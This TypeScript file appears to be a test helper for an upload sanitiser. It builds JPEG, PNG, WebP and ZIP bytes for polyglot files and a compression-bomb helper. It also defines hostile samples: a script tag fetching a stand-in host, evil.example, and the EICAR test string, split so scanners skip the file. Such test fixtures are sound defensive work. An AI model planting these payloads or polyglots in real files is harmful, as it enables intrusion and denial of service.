import { crc32, deflateSync } from 'node:zlib';

/** What an attacker hides: none of these words may be in anything that is kept. */
export const mark = 'hostile-mark-2b7e1516';
export const script = `<script>fetch('https://evil.example/${mark}')</script>`;
/** The test word of all virus scanners, put together here so that none stops at this file. */
export const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS', '-TEST-FILE!$H+H*'].join('');

export const latin = (text: string) => Buffer.from(text, 'latin1');
export const join = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map(part => (typeof part === 'string' ? latin(part) : part)));

const number = (bytes: number, write: (buffer: Buffer) => unknown) => {
  const buffer = Buffer.alloc(bytes);
  write(buffer);
  return buffer;
};
export const u16 = (value: number) => number(2, buffer => buffer.writeUInt16BE(value));
export const u32 = (value: number) => number(4, buffer => buffer.writeUInt32BE(value));
export const little16 = (value: number) => number(2, buffer => buffer.writeUInt16LE(value));
export const little24 = (value: number) => number(3, buffer => buffer.writeUIntLE(value, 0, 3));
export const little32 = (value: number) => number(4, buffer => buffer.writeUInt32LE(value));

/** A JPEG segment; `marker` is its second byte. */
export const segment = (marker: number, data: Buffer | string) => {
  const body = join(data);
  return join(Buffer.from([0xff, marker]), u16(body.length + 2), body);
};
/** Puts segments behind the first two bytes of a JPEG. */
export const withSegments = (jpeg: Buffer, ...segments: Buffer[]) =>
  join(jpeg.subarray(0, 2), ...segments, jpeg.subarray(2));

export const pngStart = latin('\x89PNG\r\n\x1a\n');
export const chunk = (type: string, data: Buffer | string) => {
  const body = join(type, data);
  return join(u32(body.length - 4), body, u32(crc32(body)));
};
/** Puts chunks behind the header of a PNG. */
export const withChunks = (png: Buffer, ...chunks: Buffer[]) => join(png.subarray(0, 33), ...chunks, png.subarray(33));

/** @param colour 0 grey, 2 RGB, 3 palette, 6 RGB with alpha */
export const pngHeader = (width: number, height: number, { depth = 8, colour = 2, interlaced = 0 } = {}) =>
  chunk('IHDR', join(u32(width), u32(height), Buffer.from([depth, colour, 0, 0, interlaced])));
export const pngEnd = chunk('IEND', '');

export const riffChunk = (type: string, data: Buffer) =>
  join(type, little32(data.length), data, Buffer.alloc(data.length % 2));
export const riff = (...chunks: Buffer[]) => {
  const body = join('WEBP', ...chunks);
  return join('RIFF', little32(body.length), body);
};

/** A ZIP of one file that is not packed: every program that looks for its end finds it, whatever stands before. */
export function zipOf(name: string, text: string): Buffer {
  const data = latin(text);
  const about = join(u32(0), u16(0), little32(crc32(data)), little32(data.length), little32(data.length));
  const local = join('PK\x03\x04', little16(20), about, little16(name.length), little16(0), name, data);
  const entry = join('PK\x01\x02', little16(20), little16(20), about, little16(name.length), Buffer.alloc(12), u32(0));
  const central = join(entry, name);
  const end = join(little16(1), little16(1), little32(central.length), little32(local.length), little16(0));
  return join(local, central, 'PK\x05\x06', u32(0), end);
}

/** So many zeros, packed small. */
export const packedZeros = (bytes: number) => deflateSync(Buffer.alloc(bytes), { level: 9 });
